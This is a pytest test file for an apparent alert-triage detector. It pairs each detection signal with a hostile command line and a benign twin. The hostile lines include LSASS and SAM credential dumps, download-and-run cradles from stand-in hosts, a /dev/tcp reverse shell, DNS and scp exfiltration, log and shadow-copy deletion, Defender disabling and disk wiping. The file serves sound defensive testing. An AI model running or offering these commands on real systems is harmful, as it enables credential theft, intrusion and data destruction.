"""Each signal has a line that fires it. Each line here has its benign twin, which does not."""

from typing import Final

import pytest

from tests.triage.samples import alert, read
from vyrox.triage.rules import SIGNALS
from vyrox.triage.score import REVIEW, judge

LINES: Final[tuple[tuple[str, str, str], ...]] = (
    (
        "collection.bulk_to_staging",
        r"robocopy \\fs01\hr C:\Users\Public\stage /e",
        r"robocopy \\fs01\deploy D:\deploy /mir",
    ),
    ("collection.clipboard", "powershell Get-Clipboard | Out-File x.txt", "pbpaste | jq ."),
    ("collection.messages", "sqlite3 ~/Library/Messages/chat.db .dump", "ls ~/Library"),
    ("credentials.lsa_secrets", "lazagne.exe all", r"reg query HKLM\SECURITY"),
    ("credentials.wifi", "netsh wlan show profile corp key=clear", "netsh wlan show profiles"),
    ("credentials.process_memory", "dd if=/proc/812/mem of=/tmp/m", "cat /proc/meminfo"),
    ("credentials.certificates", "Certify.exe find /vulnerable", "certutil -pulse"),
    (
        "credentials.web_config_keys",
        "appcmd list apppool /text:*",
        "appcmd list site",
    ),
    (
        "credentials.lsass_dump",
        "procdump64 -accepteula -ma lsass.exe C:\\x.dmp",
        "procdump64 -accepteula -ma w3wp.exe C:\\x.dmp",
    ),
    ("credentials.hive_save", r"reg save HKLM\SAM C:\s", r"reg save HKCU\Software\Acme C:\a"),
    ("credentials.shadow_file", "cat /etc/shadow", "ls -l /etc/shadow"),
    (
        "credentials.browser_store",
        r"copy C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\Login Data C:\x",
        r"dir C:\Users\a\AppData\Local\Google\Chrome\User Data",
    ),
    (
        "defences.firewall_hole_writable",
        r"netsh advfirewall firewall add rule name=u action=allow program=C:\Users\Public\u.exe",
        r"netsh advfirewall firewall add rule name=u dir=in action=allow program=C:\App\u.exe",
    ),
    ("defences.powershell_downgrade", "powershell -version 2 -c x", "powershell -version 5.1 -s"),
    (
        "defences.uac_off",
        r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /d 0",
        r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA",
    ),
    (
        "defences.certificate_root",
        "certutil -addstore -f Root ca.cer",
        "certutil -store my",
    ),
    (
        "defences.certificate_root_writable",
        r"certutil -addstore -f Root C:\Users\Public\ca.cer",
        r"certutil -addstore -f Root \\corp\pki\ca.cer",
    ),
    ("defences.time_changed", "timedatectl set-time 2020-01-01", "timedatectl status"),
    (
        "defences.group_policy_off",
        r"reg add HKCU\Software\Policies\System /v DisableTaskMgr /d 1",
        r"reg add HKCU\Software\Policies\System /v DisableTaskMgr /d 0",
    ),
    ("defences.log_shrunk", "wevtutil sl Security /ms:1024", "wevtutil sl Security /ms:1073741824"),
    (
        "defences.cloud_log_off",
        "aws cloudtrail stop-logging --name main",
        "aws cloudtrail get-trail-status --name main",
    ),
    (
        "defences.defender_off",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $false",
    ),
    ("defences.log_cleared", "wevtutil cl Security", "wevtutil epl Security C:\\s.evtx"),
    (
        "defences.exclusion_writable",
        r"powershell Add-MpPreference -ExclusionPath C:\Users\Public",
        r"powershell Add-MpPreference -ExclusionPath D:\MSSQL\Data",
    ),
    ("defences.edr_stopped", "net stop WinDefend", "sc query WinDefend"),
    ("discovery.sandbox", "tasklist | findstr vmtoolsd & tasklist vboxservice", "tasklist /v"),
    (
        "download.lolbin_fetch",
        r"MpCmdRun.exe -DownloadFile -url http://192.0.2.1/a -path C:\a",
        "MpCmdRun.exe -SignatureUpdate",
    ),
    (
        "download.office_child",
        "WINWORD.EXE /c powershell -w hidden",
        r"WINWORD.EXE /n C:\Users\a\Documents\b.docx",
    ),
    (
        "download.package_from_address",
        "pip install --index-url http://203.0.113.5/simple x",
        "pip install --index-url https://pypi.corp.test/simple x",
    ),
    (
        "download.run_from_share",
        r"rundll32 \\203.0.113.5\s\a.dll,Start",
        r"rundll32 printui.dll,PrintUIEntry /ga /n\\print01\hp",
    ),
    (
        "download.document_comment",
        r"powershell -w hidden -c irm x.test/a # C:\Users\a\report.docx",
        r"powershell -c Get-Item C:\Users\a\report.docx",
    ),
    (
        "download.search_protocol",
        "explorer search-ms:query=x&crumb=location:\\\\203.0.113.5\\s",
        "explorer C:\\Users",
    ),
    (
        "download.cradle",
        "powershell iex (irm http://c2.test/a)",
        "powershell iex (irm https://get.scoop.sh)",
    ),
    ("download.pipe_to_shell", "curl http://c2.test/a | sh", "curl https://sh.rustup.rs | sh"),
    ("escalation.kernel_exploit", "./pwnkit", "uname -r"),
    (
        "escalation.privileges",
        r"icacls C:\App /grant Everyone:F",
        r"icacls D:\Shares /grant CORP\Finance:(OI)(CI)M",
    ),
    ("escalation.unix_rights", "chmod 777 /etc/passwd", "chmod 600 /etc/app.conf"),
    (
        "evasion.injection_target",
        r"C:\Users\Public\werfault.exe",
        r"C:\Windows\System32\werfault.exe",
    ),
    ("evasion.hidden_characters", "cmd /c who\u200bami", "cmd /c whoami"),
    ("evasion.substring", "cmd /c %comspec:~0,1%md", "cmd /c %comspec%"),
    ("evasion.padded", "powershell -c x" + " " * 80 + "#", "powershell -c x   #"),
    ("evasion.truncated", "a" * 40_000, "a" * 30_000),
    ("exfiltration.dns", "dig $(whoami).x.test", "dig web01.corp.test"),
    (
        "exfiltration.dump_sent",
        "scp /tmp/lsass.dmp x@203.0.113.5:/tmp",
        "scp app.tar.gz x@web3:/opt",
    ),
    ("exfiltration.database_dump", "mysqldump a > /tmp/a.sql", "mysqldump a > /var/backups/a.sql"),
    (
        "impact.encrypt_loop",
        "for f in *; do openssl enc -aes256 -in $f; done",
        "for f in *; do ls; done",
    ),
    ("impact.bitlocker_abuse", "manage-bde -forcerecovery C:", "manage-bde -status C:"),
    ("impact.cloud_destroyed", "aws s3 rb s3://backups --force", "aws s3 ls s3://backups"),
    ("impact.disk_wipe", "dd if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=/swapfile"),
    (
        "persistence.driver_new",
        r"sc create x binPath= C:\x.sys type= kernel",
        r"sc create x binPath= C:\Windows\System32\drivers\x.sys type= kernel",
    ),
    ("persistence.service_security", "sc sdset x D:(A;;CC;;;SY)", "sc sdshow x"),
    (
        "persistence.login_item",
        "osascript -e 'tell app \"System Events\" to make login item'",
        "osascript -e 'display dialog \"Restart\"'",
    ),
    (
        "persistence.directory_rights",
        "powershell Add-DomainObjectAcl -TargetIdentity x",
        "powershell Get-Acl x",
    ),
    ("persistence.web_child", "w3wp.exe -c cmd /c whoami", "w3wp.exe -ap DefaultAppPool"),
    ("persistence.sql_shell", "sqlcmd -Q \"exec xp_cmdshell 'whoami'\"", 'sqlcmd -Q "select 1"'),
    (
        "persistence.browser_extension",
        r"chrome.exe --load-extension=C:\x",
        r"reg add HKLM\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist /v 1 /d "
        + "a" * 32,
    ),
    (
        "persistence.accessibility_git_hook",
        "echo 'curl x' > .git/hooks/post-checkout; cat .git/hooks/post-merge curl",
        "ls .git/hooks",
    ),
    ("persistence.cloud_key", "aws iam create-access-key --user-name a", "aws iam list-users"),
    ("persistence.crontab_removed", "crontab -r", "crontab -l"),
    (
        "persistence.task_loaded",
        r"schtasks /create /tn a /tr C:\Users\Public\a.exe /sc onlogon",
        r"schtasks /create /xml C:\Program Files\Acme\a.xml /tn a",
    ),
    (
        "persistence.run_key",
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d C:\Users\Public\a.exe",
        r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
    ),
    (
        "proxy.regsvr32_remote",
        "regsvr32 /s /i:http://192.0.2.1/a.sct scrobj.dll",
        r"regsvr32 /s C:\Windows\System32\wuaueng.dll",
    ),
    (
        "proxy.regsvr32_writable",
        r"regsvr32 /s C:\Users\Public\a.dll",
        r"regsvr32 /s C:\Program Files\Acme\a.dll",
    ),
    ("proxy.msiexec_odd", r"msiexec /q /i C:\a\b.png", r"msiexec /q /i C:\a\b.msi"),
    (
        "proxy.installutil",
        r"InstallUtil.exe /U C:\Users\Public\a.dll",
        r"InstallUtil.exe C:\Program Files\Acme\a.exe",
    ),
    (
        "proxy.electron_inspect",
        "teams.exe --gpu-launcher=calc",
        "teams.exe --type=gpu-process",
    ),
    (
        "proxy.browser_debug",
        r"chrome.exe --remote-debugging-port=9222 --user-data-dir=C:\Users\a\Chrome\User Data",
        r"chrome.exe --profile-directory=Default",
    ),
    (
        "proxy.compiler",
        r"csc.exe /out:C:\Users\Public\a.exe a.cs",
        r"csc.exe /noconfig @C:\Users\a\AppData\Local\Temp\abcdef12.cmdline",
    ),
    (
        "proxy.shadow_script",
        r"diskshadow /s C:\Users\Public\a.txt",
        r"diskshadow /s C:\BackupScripts\a.dsh",
    ),
    (
        "proxy.rundll32_writable",
        r"rundll32 C:\ProgramData\a.dll,Start",
        r"rundll32 advpack.dll,DelNodeRunDLL32 C:\Windows\Temp\IXP000.TMP",
    ),
    (
        "remote.ps_remoting_loaded",
        r"powershell Invoke-Command -ComputerName a {start-process C:\Users\Public\a.exe}",
        "powershell Invoke-Command -ComputerName a {Get-HotFix}",
    ),
    ("remote.service", "sc \\\\srv9 create x binPath= y", "sc \\\\srv9 query spooler"),
    (
        "remote.rdp_enabled",
        r"reg add HKLM\System\Terminal Server /v fDenyTSConnections /d 0",
        r"reg query HKLM\System\Terminal Server /v fDenyTSConnections",
    ),
    ("remote.domain_policy", r"copy a.exe \\corp\sysvol\corp\scripts\a.exe", r"dir \\corp\sysvol"),
    (
        "remote.share_open",
        r"net share x=C:\ /grant:everyone,full",
        r"net share Deploy=D:\Deploy /grant:Staff,read",
    ),
    (
        "remote.psexec_copied",
        r"psexec \\srv9 -s -c C:\a.exe",
        "psexec \\\\pc9 cmd /c sfc /scannow",
    ),
    ("shell.listener", "nc -lvnp 4444", "nc -zv db01 5432"),
    (
        "shell.openssl",
        "openssl s_client -quiet -connect c:443 | sh",
        "openssl s_client -connect c:443",
    ),
    ("shell.terminal_share", "tmate -F", "tmux attach"),
    ("shell.dev_tcp", "bash -i >& /dev/tcp/192.0.2.1/4 0>&1", "(echo > /dev/tcp/db/5432) 2>&1"),
    ("recovery.shadows_deleted", "vssadmin delete shadows /all", "vssadmin list shadows"),
    (
        "recovery.shadows_squeezed",
        "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
        "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
    ),
    (
        "recovery.mass_stop",
        "systemctl stop mysql nginx docker redis mongod",
        "systemctl stop mysql",
    ),
    (
        "download.library_loaded",
        r"powershell [Reflection.Assembly]::LoadFrom('C:\Users\Public\a.dll')",
        r"powershell [Reflection.Assembly]::LoadFrom('C:\Program Files\Acme\a.dll')",
    ),
    ("exfiltration.relay", "socat TCP-LISTEN:80,fork TCP:a:80", "socat - UNIX-CONNECT:/run/a.sock"),
    ("remote.service_control", r"sc \\srv9 start spooler", r"sc \\srv9 query spooler"),
    ("remote.task_run", r"schtasks /run /tn a /s srv9", r"schtasks /query /s srv9"),
    (
        "recovery.backup_catalogue",
        "wbadmin delete backup -quiet",
        "wbadmin delete backup -keepVersions:7",
    ),
    ("recovery.restore_off", "sc config vss start= disabled", "sc config vss start= auto"),
    ("defences.linux_logs", "rm -rf /var/log/auth.log", "journalctl --vacuum-size=1G"),
    (
        "proxy.rundll32_script",
        "rundll32 url.dll,FileProtocolHandler C:/Users/Public/a.hta",
        "rundll32 url.dll,FileProtocolHandler https://intranet.corp.test",
    ),
    ("proxy.odbcconf", r"odbcconf /a {REGSVR C:\a.dll}", r"odbcconf /f C:\Deploy\dsn.rsp"),
    ("proxy.cmstp", r"cmstp /s C:\a.inf", r"cmstp /au C:\Program Files\Cisco\vpn.inf"),
    ("remote.session_hijack", "tscon 3 /dest:rdp-tcp#14", "tscon 2 /dest:console"),
    (
        "impact.hosts_file",
        "echo 203.0.113.5 bank.test >> /etc/hosts",
        "echo 10.0.0.5 app >> /etc/hosts",
    ),
    (
        "escalation.gtfobins",
        r"sudo find . -exec /bin/sh \;",
        r"find . -name a.sh -exec bash -n {} \;",
    ),
    (
        "persistence.task_loaded",
        r"schtasks /create /tn a /tr C:\Users\Public\a.exe",
        r"schtasks /create /tn a /tr 'powershell -File C:\Scripts\clean.ps1' /sc daily",
    ),
    ("evasion.kernel_thread_name", "/usr/bin/kworkerds -B", "cp -r ~/a ~/migration/"),
    ("evasion.delayed_expansion", "cmd /v:on /c set x=ab&& echo !x:~1,1!", "cmd /v:on /c echo !n!"),
    (
        "credentials.group_policy",
        r"findstr /s cpassword \\a\sysvol\x",
        r"findstr /s drive \\a\sysvol\x",
    ),
    (
        "credentials.service_account_token",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
    ),
)
SAMPLED: Final = ("malicious", "benign", "incidents", "fresh_1", "fresh_2", "fresh_3", "fresh_4")
FUNCTIONS: Final = {
    "evasion.renamed": alert("svchost.exe -k netsvcs", process_name="rundll32.exe"),
    "evasion.flooded": alert(" ".join(f"powershell -e QUJDREVGRw{n:04}" for n in range(100))),
}


def fired(line: str) -> set[str]:
    return {reason.signal for reason in judge(alert(line)).reasons}


@pytest.mark.parametrize(("signal", "line", "twin"), LINES, ids=[each[0] for each in LINES])
def test_signal_fires_on_its_line_and_not_on_the_twin(signal: str, line: str, twin: str) -> None:
    assert signal in fired(line)
    assert signal not in fired(twin)
    assert judge(alert(twin)).score < REVIEW


def test_every_signal_has_a_line() -> None:
    found = {signal for signal, _, _ in LINES}
    for name in SAMPLED:
        for each in read(name):
            found |= {reason.signal for reason in each.judged.verdict.reasons}
    for name, own in FUNCTIONS.items():
        assert name in {reason.signal for reason in judge(own).reasons}
        found.add(name)
    assert {signal.name for signal in SIGNALS} - found == set()
